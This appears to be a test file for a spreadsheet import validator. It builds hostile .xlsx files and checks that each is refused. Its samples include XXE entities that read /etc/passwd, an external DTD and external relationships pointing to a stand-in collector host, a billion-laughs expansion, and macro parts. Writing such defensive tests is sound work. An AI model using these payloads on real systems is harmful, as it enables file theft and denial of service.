import { zip } from '../../support/zip';
import { changed, expectRefused, OFFICE, replace, SHEET, type BadFile } from '../support/bad-workbooks';
import { parts, relationships, reportSheets, zipOf } from '../support/workbook-parts';

const withDeclaration = (name: string, declaration: string, reference: string) =>
  changed((made) => {
    replace(name, /\?>\s*/, `?>${declaration}`)(made);
    replace(name, /<\/[^>]*>$/, `${reference}$&`)(made);
  });
const XXE = '<!DOCTYPE a [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>';
const XXE_FROM_ELSEWHERE = '<!DOCTYPE a SYSTEM "http://collector.example.org/evil.dtd">';
const LAUGHS = `<!DOCTYPE a [<!ENTITY l0 "ha">${Array.from(
  { length: 30 },
  (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`,
).join('')}]>`;

const ole = (stream: string) =>
  Buffer.concat([Buffer.from('D0CF11E0A1B11AE1', 'hex'), Buffer.alloc(504), Buffer.from(stream, 'utf16le')]);

const FROM_ELSEWHERE: BadFile[] = [
  ['an entity from a file', 'external-content', () => withDeclaration(SHEET, XXE, '&xxe;')],
  ['a type from elsewhere', 'external-content', () => withDeclaration(SHEET, XXE_FROM_ELSEWHERE, '')],
  ['a billion laughs', 'external-content', () => withDeclaration('xl/sharedStrings.xml', LAUGHS, '&l30;')],
  ...[
    '[Content_Types].xml',
    '_rels/.rels',
    'xl/workbook.xml',
    'xl/_rels/workbook.xml.rels',
    'docProps/core.xml',
  ].map((name): BadFile => [
    `an entity in ${name}`,
    'external-content',
    () => withDeclaration(name, XXE, '&xxe;'),
  ]),
  [
    'a link to another workbook',
    'external-content',
    () => changed((made) => made.set('xl/externalLinks/externalLink1.xml', '<externalLink/>')),
  ],
  [
    'a sheet that lives elsewhere',
    'external-content',
    () =>
      changed(
        replace(
          'xl/_rels/workbook.xml.rels',
          'Target="worksheets/sheet1.xml"',
          'Target="http://collector.example.org/sheet.xml" TargetMode="External"',
        ),
      ),
  ],
  [
    'a picture that lives elsewhere',
    'external-content',
    () =>
      changed((made) =>
        made.set(
          'xl/drawings/_rels/drawing1.xml.rels',
          relationships([['rId1', `${OFFICE}/image`, 'http://collector.example.org/a.png', 'External']]),
        ),
      ),
  ],
];

const OTHER_FILES: BadFile[] = [
  ['a password', 'password-protected', () => ole('EncryptedPackage')],
  [
    'a password of the zip',
    'password-protected',
    () => zipOf(parts(reportSheets([['k1']])), { encrypted: true }),
  ],
  ['.xls', 'old-format', () => ole('Workbook')],
  [
    '.xlsm',
    'macros',
    () =>
      changed(
        replace(
          '[Content_Types].xml',
          'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml',
          'application/vnd.ms-excel.sheet.macroEnabled.main+xml',
        ),
      ),
  ],
  ['code in an .xlsx', 'macros', () => changed((made) => made.set('xl/vbaProject.bin', 'code'))],
  ['.csv', 'comma-separated', () => Buffer.from('Row key,Contact Made\nk1,Y\n')],
  [
    'HTML',
    'web-page',
    () => Buffer.from('<html><body><table><tr><td>Row key</td></tr></table></body></html>'),
  ],
  [
    'a Word document',
    'not-a-workbook',
    () =>
      changed((made) => {
        replace('_rels/.rels', 'xl/workbook.xml', 'word/document.xml')(made);
        made.set('word/document.xml', '<document/>');
      }),
  ],
  [
    'the binary form of a workbook',
    'not-a-workbook',
    () =>
      changed((made) => {
        replace('_rels/.rels', 'xl/workbook.xml', 'xl/workbook.bin')(made);
        made.set('xl/workbook.bin', 'x');
      }),
  ],
  ['a zip of something else', 'not-a-workbook', () => zip([{ name: 'a.txt', data: 'a' }])],
  ['an empty zip', 'not-a-workbook', () => zip([])],
  [
    'a workbook of somebody else',
    'not-our-report',
    () => zipOf(parts([{ name: 'A', rows: [{ cells: ['a'] }] }])),
  ],
  ['a workbook without sheets', 'not-our-report', () => zipOf(parts([]))],
];

describe('what would come from elsewhere is neither fetched nor put in', () => {
  test.each(FROM_ELSEWHERE)('%s: %s', (_name, problem, make) => expectRefused(make(), problem));
});

describe('a file of another kind is called by its name', () => {
  test.each(OTHER_FILES)('%s: %s', (_name, problem, make) => expectRefused(make(), problem));
});
